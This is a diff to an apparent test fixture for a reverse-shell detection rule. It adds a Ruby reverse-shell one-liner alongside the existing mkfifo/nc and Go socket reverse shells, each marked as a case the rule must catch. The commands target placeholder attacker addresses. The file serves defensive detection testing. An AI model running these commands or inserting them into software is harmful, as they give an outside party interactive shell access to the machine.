@@ -17,6 +17,8 @@ func main() {
 	fifo := "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f"
 	// ruleid: any.proc.reverse_shell
 	c, _ := net.Dial("tcp", "203.0.113.7:4444"); cmd := exec.Command("/bin/sh"); cmd.Stdin = c
+	// ruleid: any.proc.reverse_shell
+	rb := `ruby -rsocket -e 'c=TCPSocket.new("203.0.113.5",443);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'`
 	// ok: any.proc.reverse_shell
 	quiet := `perl -e 'open(STDOUT, ">&STDERR"); print "moved\n"'`
 	// ok: any.proc.reverse_shell
